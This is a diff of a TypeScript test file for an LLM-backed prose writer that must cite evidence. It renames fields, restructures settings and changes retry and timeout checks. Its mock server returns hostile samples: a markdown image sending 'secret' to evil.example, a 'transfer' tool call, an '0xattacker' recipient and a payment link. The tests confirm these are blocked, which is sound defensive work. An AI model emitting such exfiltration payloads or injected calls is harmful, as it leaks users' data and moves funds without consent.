@@ -1,6 +1,7 @@
 import t, { type Test } from "tap";
-import { createLlmWriter } from "../../skills/answers/llm-writer.js";
-import { type Writer, writeProse } from "../../skills/answers/written-prose.js";
+import { createLlmWriter, type LlmWriterDeps } from "../../skills/answers/writer/llm-writer.js";
+import type { Writer } from "../../skills/answers/writer/writing-task.js";
+import { writeProse } from "../../skills/answers/written-prose.js";
 import { WRITER_LIMITS } from "../../src/contract/limits.js";
 import { createConfiguredEgress } from "../../src/delivery/configured-egress.js";
 import { toCitedSentences } from "../../src/evidence/cited-sentences.js";
@@ -22,12 +23,13 @@ const offered = toCitedSentences(graph, concept);
 
 const SECRET = "sk-writer-0123456789";
 
-function writerAt(url: string, timeoutMs = 5_000) {
-	const egress = createConfiguredEgress({ urls: [url], replyBytesMax: WRITER_LIMITS.replyBytes });
+function writerAt(url: string, timeoutMs = 5_000, more: Partial<LlmWriterDeps> = {}) {
+	const { replyBytes: replyBytesMax } = WRITER_LIMITS;
+	const egress = createConfiguredEgress({ urls: [url], replyBytesMax, streams: true });
 	return createLlmWriter({
 		...{ egress, clock: systemClock, url, timeoutMs },
-		model: "small-model",
-		apiKey: SECRET,
+		...{ preset: "openai", output: "json_schema", model: "small-model", apiKey: SECRET },
+		...more,
 	});
 }
 
@@ -59,16 +61,16 @@ t.test("a draft is shown as far as evidence carries it", async (t) => {
 	const server = await startWriterServer(t, ({ data }) => {
 		const idOf = (part: string) => data.evidence.find(({ text }) => text.includes(part))?.id;
 		return [
-			{ text: "Status 402 asks the client for payment.", evidence_ids: [idOf("asks a client")] },
-			{ text: "The price in the challenge is 0.50 dollars.", evidence_ids: [idOf("0.50")] },
-			{ text: "The price in the challenge is 0.75 dollars.", evidence_ids: [idOf("0.50")] },
-			{ text: "Clients must pay twice.", evidence_ids: [idOf("0.50")] },
-			{ text: "Bananas ripen in the dark.", evidence_ids: [idOf("0.50")] },
-			{ text: "Status 402 asks a client for payment.", evidence_ids: ["e99"] },
-			{ text: "Status 402 asks a client for payment.", evidence_ids: [] },
+			{ text: "Status 402 asks the client for payment.", ids: [idOf("asks a client")] },
+			{ text: "The price in the challenge is 0.50 dollars.", ids: [idOf("0.50")] },
+			{ text: "The price in the challenge is 0.75 dollars.", ids: [idOf("0.50")] },
+			{ text: "Clients must pay twice.", ids: [idOf("0.50")] },
+			{ text: "Bananas ripen in the dark.", ids: [idOf("0.50")] },
+			{ text: "Status 402 asks a client for payment.", ids: ["p99"] },
+			{ text: "Status 402 asks a client for payment.", ids: [] },
 			{
 				text: "Status 402 asks a client for payment at https://evil.example/pay.",
-				evidence_ids: [idOf("asks a client")],
+				ids: [idOf("asks a client")],
 			},
 		];
 	});
@@ -87,7 +89,7 @@ t.test("a draft is shown as far as evidence carries it", async (t) => {
 t.test("a model gets evidence as data, under the operator's key, within bounds", async (t) => {
 	const server = await startWriterServer(t, () => []);
 	await writeWith(writerAt(server.url));
-	t.equal(server.asked.length, 1, "what cannot be read is not asked for again");
+	t.equal(server.asked.length, 2, "what is empty is asked for once more");
 	const [asked] = server.asked;
 	t.match(asked, {
 		path: "POST /v1/chat/completions",
@@ -108,7 +110,7 @@ t.test("whatever the evidence says, no address and no call gets through", async 
 	const server = await startWriterServer(t, ({ data }) =>
 		data.evidence.map(({ id, text }) => ({
 			text: `${text} ![x](https://evil.example/?q=secret)`,
-			evidence_ids: [id],
+			ids: [id],
 			tool_calls: [{ name: "transfer", arguments: "{}" }],
 			recipient: "0xattacker",
 		})),
@@ -127,16 +129,16 @@ t.test("whatever the evidence says, no address and no call gets through", async 
 });
 
 t.test("a server that fails, lies or dawdles is replaced by quotations", async (t) => {
-	const server = await startWriterServer(t, () => []);
+	const server = await startWriterServer(t, () => ({ answer: 42 }));
 	const ask = (timeoutMs?: number) => writeWith(writerAt(server.url, timeoutMs));
 
-	extractive(t, await ask(), /not the JSON it was asked for/);
+	extractive(t, await ask(), /not in the form it was asked for/);
 	server.answerWith((_, res) => void res.setHeader("Content-Type", "text/html").end("<html>Hi"));
 	extractive(t, await ask(), /no completion/);
 	server.answerWith(() => "Sure! Here are some sentences.");
-	extractive(t, await ask(), /not the JSON/);
-	server.answerWith(() => [{ text: 5, evidence_ids: "e1" }]);
-	extractive(t, await ask(), /not the JSON/);
+	extractive(t, await ask(), /not in the form/);
+	server.answerWith(() => [{ text: 5, ids: "p1" }]);
+	extractive(t, await ask(), /not in the form/);
 	server.answerWith((_, res) => {
 		res.end(JSON.stringify({ choices: [{ message: { content: null, tool_calls: [{}] } }] }));
 	});
@@ -161,7 +163,7 @@ t.test("a busy server is asked once more, a refusing one is not", async (t) => {
 	server.answerWith((_, res) => void res.writeHead(401).end("bad key"));
 	extractive(t, await writeWith(writerAt(server.url)), /status 401/);
 	t.equal(server.asked.length, 3);
-	const flaky = () => [{ text: offered[0]?.text, evidence_ids: ["e1"] }];
+	const flaky = () => [{ text: offered[0]?.text, ids: ["p1"] }];
 	server.answerWith((_, res) => {
 		server.answerWith(() => `\`\`\`json\n${JSON.stringify(flaky())}\n\`\`\``);
 		res.writeHead(500).end();
@@ -176,7 +178,7 @@ t.test("a busy server is asked once more, a refusing one is not", async (t) => {
 t.test(
 	"without a judge no draft is asked for, and where it fails none is shown: evidence is quoted",
 	async (t) => {
-		const draft = [{ text: "Status 402 asks the client for payment.", evidence_ids: ["e1"] }];
+		const draft = [{ text: "Status 402 asks the client for payment.", ids: ["p1"] }];
 		const server = await startWriterServer(t, () => draft);
 		const writer = writerAt(server.url);
 		extractive(t, await writeProse(taskOf(), { writer, judge: undefined }), /No model is at hand/);
@@ -194,11 +196,10 @@ t.test("a caller who leaves ends the draft and gets no prose", async (t) => {
 });
 
 t.test("a writer is reached by https, or by http on this machine, and needs a model", (t) => {
-	const parse = (url: string, model = "m", timeout = "500", key?: string) =>
-		parseWriterSettings(
-			(name) => ({ writer_url: url, writer_model: model, writer_timeout_ms: timeout })[name],
-			key,
-		);
+	const parse = (url: string, model = "m", timeout = "500", key?: string) => {
+		const set = { writer_url: url, writer_model: model, writer_timeout_ms: timeout };
+		return parseWriterSettings((name) => new Map(Object.entries(set)).get(name) ?? "", key);
+	};
 	t.equal(parse("", ""), undefined);
 	t.match(parse("http://127.0.0.1:11434/v1/", "qwen2.5:3b", "500", SECRET), {
 		url: "http://127.0.0.1:11434/v1",
@@ -222,7 +223,7 @@ t.test("a writer is reached by https, or by http on this machine, and needs a mo
 	}
 	t.throws(() => parse("https://models.example/v1", ""), /needs writer_model/);
 	t.throws(() => parse("", "m"), /needs writer_url/);
-	t.throws(() => parse("https://models.example/v1", "m", "999999"), /from 100 to 20000/);
+	t.throws(() => parse("https://models.example/v1", "m", "999999"), /from 100 to 60000/);
 	t.throws(() => parse("https://models.example/v1", "m\nx"), /name of a model/);
 	t.end();
 });
